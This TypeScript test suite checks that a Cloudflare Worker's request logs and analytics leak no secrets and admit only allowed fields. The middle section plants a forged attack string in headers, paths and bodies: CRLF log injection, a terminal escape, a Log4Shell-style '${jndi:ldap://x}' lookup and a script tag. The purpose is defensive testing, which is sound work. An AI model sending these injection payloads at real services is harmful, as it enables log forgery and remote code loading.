// One line for each request, of allowed fields only. Secrets are planted wherever a caller can write; none may come out, in
// the log or in the data points, whether the request was good or not.
import { createExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import worker from "../../../../src/worker.ts";
import { Firewall } from "../../../support/firewall.ts";
import { createFleet, publish } from "../../../support/fleet.ts";
import { TEST_SECRETS } from "../../../support/secrets.ts";
import { ISSUER, operate, operated, send } from "../../../support/service.ts";
import { newProduct, offerOf, permitOf, setStatus } from "../../support/fixtures.ts";

const FIELDS =
	/^(time|request_id|version|route|method|status|problem|reason|device|account|subject|key|product|from_version|to_version|outcome|country|colo|bytes|duration_ms)$/;
const CANARY = "c4n4ry";

let lines: string[];
beforeEach(() => {
	lines = [];
	for (const name of ["log", "info", "warn", "error", "debug"] as const) {
		vi.spyOn(console, name).mockImplementation((...args: unknown[]) => {
			lines.push(args.map(String).join(" "));
		});
	}
});
afterEach(() => {
	vi.restoreAllMocks();
});

/** No line break, no escape of a terminal: JSON writes them as six plain characters. */
function expectNoControl(text: string): void {
	expect(/\p{Cc}/u.test(text)).toBe(false);
}

/** Every line is one object of allowed fields with short values. */
function expectPlainLines(): Record<string, unknown>[] {
	return lines.map((line) => {
		expectNoControl(line);
		const fields = JSON.parse(line) as Record<string, unknown>;
		for (const [name, value] of Object.entries(fields)) {
			expect(name).toMatch(FIELDS);
			expect(String(value).length).toBeLessThanOrEqual(128);
		}
		return fields;
	});
}

function expectNothingOf(secrets: readonly string[], texts: readonly string[]): void {
	const text = texts.join("\n");
	for (const secret of secrets) {
		expect(secret.length).toBeGreaterThan(5);
		expect(text).not.toContain(secret);
	}
}

test("a whole life of a firewall leaves one line for each request and no secret", async () => {
	const product = await newProduct();
	const { code } = await createFleet({ products: [product] });
	await publish(product, "1.0.0", "rules");
	const { key } = await operated<{ key: string }>("POST", "/v1/keys", { subject: "ci", scopes: ["operate"] });
	const firewall = await Firewall.create();
	await firewall.activate(code, { serial: `SN-${CANARY}`, model: `M-${CANARY}`, labels: { site: CANARY } });
	lines = [];

	const assertion = await firewall.assertion();
	const proof = await firewall.proof("POST", `${ISSUER}/oauth2/token`);
	await firewall.requestToken({ client_assertion: assertion }, proof);
	await firewall.authenticate();
	const { capability } = await offerOf(firewall, product);
	const { permit, url } = await permitOf(firewall, product);
	await send(url);
	await firewall.call("POST", "/v1/reports", { permit, outcome: "installed" });
	await operate("GET", "/v1/keys", undefined, key);
	await setStatus(firewall, "revoke");
	await firewall.call("GET", "/v1/check");
	expect(lines).toHaveLength(10);
	const fields = expectPlainLines();
	expect(fields.map(({ route, status }) => `${route} ${status}`)).toEqual([
		"/oauth2/token 200",
		"/oauth2/token 200",
		"/v1/check 200",
		"/v1/check 200",
		"/v1/permits 201",
		"/d/:sha256/:name 200",
		"/v1/reports 202",
		"/v1/keys 200",
		"/v1/devices/:device/revoke 200",
		"/v1/check 403",
	]);
	const secrets = [
		CANARY,
		code,
		code.replaceAll("-", "").toLowerCase(),
		key,
		assertion,
		proof,
		firewall.accessToken,
		firewall.accessToken.slice(-32),
		firewall.registrationToken,
		firewall.clientId,
		capability,
		permit,
		new URL(url).searchParams.get("s") ?? "",
		...Object.values(TEST_SECRETS),
	];
	expectNothingOf(secrets, lines);
});

// biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker of a Java logger would write
const FORGERY = '\r\n{"level":"admin"}\u001b[2J${jndi:ldap://x}<script>';

/** Puts the canary wherever HTTP lets a caller write. */
async function plantEverywhere(fetcher: typeof send): Promise<void> {
	const text = JSON.stringify(FORGERY + CANARY).slice(1, -1);
	const headers = {
		authorization: `Bearer ${CANARY}`,
		dpop: CANARY,
		"user-agent": CANARY,
		"x-request-id": CANARY,
		"cf-ray": CANARY,
		cookie: CANARY,
		referer: `https://${CANARY}.test/`,
		"if-none-match": `"${CANARY}"`,
		"content-type": "application/json",
	};
	const body = `{"${text}":"${text}","offer":"${CANARY}","permit":"${CANARY}","reason":"${text}","name":"${text}"}`;
	const at = `${CANARY}%0d%0a%7B%22level%22%3A1%7D`;
	const requests: [string, string][] = [
		["GET", `/v1/check?installed=${at}&${at}=${at}`],
		["GET", `/v1/messages?locale=${at}`],
		["POST", "/v1/permits"],
		["POST", "/v1/reports"],
		["POST", "/oauth2/token"],
		["POST", "/oauth2/register"],
		["DELETE", `/oauth2/register/${at}`],
		["GET", `/d/${"ab".repeat(32)}/${at}?s=${at}`],
		["PUT", `/v1/products/${at}/releases/${at}/package?name=${at}`],
		["POST", `/v1/accounts/${at}/codes`],
		["POST", "/v1/keys"],
		["GET", `/${at}`],
		["PATCH", "/v1/check"],
	];
	for (const authorization of [headers.authorization, `Bearer ${TEST_SECRETS.BOOTSTRAP_KEY}`, `DPoP ${CANARY}`]) {
		for (const [method, path] of requests) {
			const init = { method, headers: { ...headers, authorization }, ...(method === "GET" ? {} : { body }) };
			const answer = await fetcher(path, init);
			expect([path, answer.status < 500]).toEqual([path, true]);
			// A name of a field that is none may come back to its sender, as JSON and escaped.
			if (method !== "HEAD" && answer.status >= 400) expect(answer.headers.get("content-type")).toContain("json");
			expectNoControl(await answer.text());
		}
	}
	const form = new URLSearchParams({ grant_type: "client_credentials", client_assertion: CANARY, scope: CANARY });
	const type = { "content-type": "application/x-www-form-urlencoded" };
	await fetcher("/oauth2/token", { method: "POST", headers: { ...headers, ...type }, body: form.toString() });
}

test("whatever is planted in a request, its line holds none of it, and there is one line", async () => {
	let count = 0;
	await plantEverywhere(async (path, init) => {
		count += 1;
		return send(path, init);
	});
	expect(lines).toHaveLength(count);
	expectPlainLines();
	expectNothingOf([CANARY, "${jndi:", "script", "level\\"], lines);
});

test("the data points hold none of it either, and name no device", async () => {
	const points: AnalyticsEngineDataPoint[] = [];
	const variant = {
		...env,
		ANALYTICS: { writeDataPoint: (point: AnalyticsEngineDataPoint) => points.push(point) } as AnalyticsEngineDataset,
	};
	const fetcher = (path: string, init?: RequestInit) =>
		worker.fetch(
			new Request(ISSUER + path, init) as Parameters<typeof worker.fetch>[0],
			variant,
			createExecutionContext(),
		);
	const { code } = await createFleet({ products: [await newProduct()] });
	const firewall = await (await Firewall.create()).activate(code, { labels: { site: CANARY } });
	await firewall.authenticate(false);
	const answer = await fetcher("/v1/check", { headers: { authorization: `Bearer ${firewall.accessToken}` } });
	expect(answer.status).toBe(200);
	await plantEverywhere(fetcher);
	const texts = points.map((point) => JSON.stringify(point));
	expect(texts[0]).toContain("/v1/check");
	expectNothingOf([CANARY, code, firewall.accessToken, firewall.clientId, "${jndi"], texts);
});

test("every request with an API key has its line, reads too, and devices' a sample", async () => {
	const variant = { ...env, LOG_SAMPLE_RATE: "0" } as unknown as typeof env;
	const fetcher = (path: string, authorization: string) =>
		worker.fetch(
			new Request(ISSUER + path, { headers: { authorization } }) as Parameters<typeof worker.fetch>[0],
			variant,
			createExecutionContext(),
		);
	const { code } = await createFleet({ products: [await newProduct()] });
	const firewall = await (await Firewall.create()).activate(code);
	await firewall.authenticate(false);
	const { key, id } = await operated<{ key: string; id: string }>("POST", "/v1/keys", {
		subject: "an auditor",
		scopes: ["read"],
	});
	lines = [];
	expect((await fetcher("/v1/check", `Bearer ${firewall.accessToken}`)).status).toBe(200);
	expect((await fetcher("/v1/accounts", `Bearer ${key}`)).status).toBe(200);
	expect((await fetcher("/v1/accounts", `Bearer ${TEST_SECRETS.BOOTSTRAP_KEY}`)).status).toBe(200);
	expect(expectPlainLines()).toMatchObject([
		{ route: "/v1/accounts", subject: "an auditor", key: id },
		{ route: "/v1/accounts", subject: "bootstrap", key: "bootstrap" },
	]);
});

test("a sink that fails does not fail the request, and what it said is not logged", async () => {
	const variant = {
		...env,
		ANALYTICS: {
			writeDataPoint: () => {
				throw new Error(CANARY);
			},
		} as AnalyticsEngineDataset,
	};
	const request = new Request(`${ISSUER}/.well-known/oauth-authorization-server`) as Parameters<typeof worker.fetch>[0];
	expect((await worker.fetch(request, variant, createExecutionContext())).status).toBe(200);
	expect(lines).toEqual(["telemetry failed: Error"]);
});

test.each([
	["that is overloaded", { overloaded: true, retryable: true }],
	// As the platform marks an object that ran out of memory, or whose version was replaced, under the request.
	["that died under the request", { durableObjectReset: true }],
])("an object %s costs a 503 with Retry-After, and its words stay inside", async (_, marks) => {
	const failing = () => {
		throw Object.assign(new Error(`overloaded ${CANARY}`), marks);
	};
	const variant = { ...env, DIRECTORY: { getByName: failing }, ACCOUNT: { getByName: failing } } as unknown as Env;
	const ask = (path: string, init: RequestInit = {}) =>
		worker.fetch(
			new Request(ISSUER + path, init) as Parameters<typeof worker.fetch>[0],
			variant,
			createExecutionContext(),
		);
	const { code } = await createFleet();
	const firewall = await Firewall.create();
	lines = [];
	const operator = await ask("/v1/products", { headers: { authorization: `Bearer ${TEST_SECRETS.BOOTSTRAP_KEY}` } });
	const body = JSON.stringify({ jwks: { keys: [firewall.publicJwk] }, device_serial: "SN", device_model: "M" });
	const registration = await ask("/oauth2/register", {
		method: "POST",
		headers: {
			authorization: `DPoP ${code}`,
			dpop: await firewall.proof("POST", `${ISSUER}/oauth2/register`, code),
			"content-type": "application/json",
			"content-length": String(body.length),
		},
		body,
	});
	for (const answer of [operator, registration]) {
		expect(answer.status).toBe(503);
		expect(answer.headers.get("retry-after")).toMatch(/^[1-9]\d*$/);
		expect(await answer.text()).not.toMatch(/overloaded|detail|c4n4ry/);
	}
	expect(lines).toHaveLength(2);
	expectNothingOf([CANARY, "overloaded"], lines);
});
